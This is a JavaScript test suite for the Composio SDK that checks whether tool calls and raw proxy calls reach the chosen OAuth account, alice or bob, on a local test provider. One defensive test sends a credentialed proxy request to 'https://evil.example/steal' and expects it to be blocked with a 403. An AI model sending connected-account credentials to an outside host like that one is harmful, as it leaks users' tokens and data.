// Tools and raw API calls through the official SDK (@composio/core 0.19.0) with a chosen account:
// composio.tools.proxyExecute, composio.tools.execute (with connectedAccountId and with userId),
// session.proxyExecute and session.execute with {account}. Two logins at the local OAuth2
// provider; the provider's userinfo endpoint tells which account's token reached it.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';
import {
    CALLBACK_PATH,
    captureWarnings,
    completeConnectLink,
    freePort,
    removeDir,
    startProvider,
    startTether,
    tempDir,
    writeCatalog,
} from './lib/harness.mjs';

process.env.TELEMETRY_DISABLED = 'true';
const { Composio, ComposioConnectedAccountNotFoundError } = await import('@composio/core');

const USER = 'sdk_user';
let provider;
let tether;
let catalogDir;
let composio;
let warn;
const acct = {};

function addWhoamiTool(dir) {
    const f = path.join(dir, 'gmail.json');
    const gmail = JSON.parse(fs.readFileSync(f, 'utf8'));
    gmail.tools = [
        ...(gmail.tools ?? []),
        {
            slug: 'GMAIL_TEST_WHOAMI',
            name: 'Who am I',
            description: 'Reads the OpenID Connect userinfo of the connected account.',
            input_parameters: {
                type: 'object',
                properties: { note: { type: 'string', description: 'Sent as a query parameter.' } },
                required: [],
            },
            http: { method: 'GET', path: '/me', query: ['note'] },
        },
    ];
    fs.writeFileSync(f, JSON.stringify(gmail, null, 2));
}

async function connect(session, login, alias) {
    const req = await session.authorize('gmail', alias ? { alias } : undefined);
    const page = await completeConnectLink(req.redirectUrl, { login });
    assert.equal(page.status, 200, page.steps.join('\n'));
    return req.waitForConnection(20000);
}

before(async () => {
    warn = captureWarnings();
    const port = await freePort();
    provider = await startProvider({ redirectUris: [`http://127.0.0.1:${port}${CALLBACK_PATH}`] });
    catalogDir = writeCatalog(tempDir('tether-catalog-'), provider.issuer);
    addWhoamiTool(catalogDir);
    tether = await startTether({ port, catalogDir });
    composio = new Composio({
        apiKey: tether.apiKey,
        baseURL: tether.url,
        allowTracking: false,
        disableVersionCheck: true,
    });
    await composio.authConfigs.create('gmail', {
        type: 'use_custom_auth',
        authScheme: 'OAUTH2',
        credentials: { client_id: 'tether-post', client_secret: 'tether-post-secret' },
    });
    const session = await composio.create(USER);
    acct.alice = await connect(session, 'alice');
    acct.bob = await connect(session, 'bob', 'personal');
});

after(async () => {
    warn?.restore();
    await Promise.allSettled([tether?.stop(), provider?.stop()]);
    if (catalogDir) removeDir(catalogDir);
});

test('connected accounts carry the identity in data', async () => {
    const a = await composio.connectedAccounts.get(acct.alice.id);
    assert.equal(a.data.identity, 'alice@example.test');
    const b = await composio.connectedAccounts.get(acct.bob.id);
    assert.equal(b.data.identity, 'bob@example.test');
    assert.equal(b.alias, 'personal');
});

test('composio.tools.proxyExecute with each account', async () => {
    for (const who of ['alice', 'bob']) {
        const r = await composio.tools.proxyExecute({
            endpoint: '/me',
            method: 'GET',
            connectedAccountId: acct[who].id,
            parameters: [{ in: 'query', name: 'trace', value: 1 }],
        });
        assert.equal(r.status, 200);
        assert.equal(r.data.email, `${who}@example.test`);
        assert.equal(typeof r.headers, 'object');
    }
    await assert.rejects(
        composio.tools.proxyExecute({
            endpoint: 'https://evil.example/steal',
            method: 'GET',
            connectedAccountId: acct.alice.id,
        }),
        (e) => e.status === 403 || /403/.test(String(e.message)),
    );
});

test('composio.tools.execute by account id and by user id', async () => {
    const tool = await composio.tools.getRawComposioToolBySlug('GMAIL_TEST_WHOAMI');
    assert.equal(tool.slug, 'GMAIL_TEST_WHOAMI');
    assert.equal(tool.toolkit.slug, 'gmail');

    let r = await composio.tools.execute('GMAIL_TEST_WHOAMI', {
        userId: USER,
        connectedAccountId: acct.alice.id,
        arguments: { note: 'hi' },
        dangerouslySkipVersionCheck: true,
    });
    assert.equal(r.successful, true, JSON.stringify(r));
    assert.equal(r.error, null);
    assert.equal(r.data.email, 'alice@example.test');

    r = await composio.tools.execute('GMAIL_TEST_WHOAMI', {
        userId: USER,
        arguments: {},
        dangerouslySkipVersionCheck: true,
    });
    assert.equal(r.data.email, 'bob@example.test', 'the newest account by default');

    await assert.rejects(
        composio.tools.execute('GMAIL_TEST_WHOAMI', {
            userId: 'nobody_here',
            arguments: {},
            dangerouslySkipVersionCheck: true,
        }),
        ComposioConnectedAccountNotFoundError,
    );
});

test('session.proxyExecute uses the session account; a pin wins', async () => {
    const s = await composio.create(USER);
    let r = await s.proxyExecute({ toolkit: 'gmail', endpoint: '/me', method: 'GET' });
    assert.equal(r.status, 200);
    assert.equal(r.data.email, 'bob@example.test');
    const pinned = await composio.create(USER, { connectedAccounts: { gmail: acct.alice.id } });
    r = await pinned.proxyExecute({ toolkit: 'gmail', endpoint: '/me', method: 'GET' });
    assert.equal(r.data.email, 'alice@example.test');
    const tk = await pinned.toolkits({ toolkits: ['gmail'] });
    assert.equal(tk.items[0].connection.connectedAccount.id, acct.alice.id);
});

test('session.execute with an account in a multi-account session', async () => {
    const s = await composio.create(USER, {
        multiAccount: { enable: true, requireExplicitSelection: true },
    });
    let r = await s.execute('GMAIL_TEST_WHOAMI', {}, { account: acct.alice.id });
    assert.equal(r.error, null, JSON.stringify(r));
    assert.equal(r.data.email, 'alice@example.test');
    r = await s.execute('GMAIL_TEST_WHOAMI', {}, { account: 'personal' });
    assert.equal(r.data.email, 'bob@example.test', JSON.stringify(r));
    r = await s.execute('GMAIL_TEST_WHOAMI', {}, { account: acct.alice.wordId ?? acct.alice.id });
    assert.equal(r.data.email, 'alice@example.test', JSON.stringify(r));

    // without an account the choice is refused, and the candidates are named
    let refused;
    try {
        r = await s.execute('GMAIL_TEST_WHOAMI', {});
        refused = r.error;
    } catch (e) {
        refused = JSON.stringify(e.error ?? e.message);
    }
    assert.ok(refused, 'a call without an account is refused');
    assert.ok(refused.includes(acct.alice.id) && refused.includes(acct.bob.id), refused);
});

test('no transform warnings from the SDK', () => {
    assert.deepEqual(warn.transformFailures(), []);
});
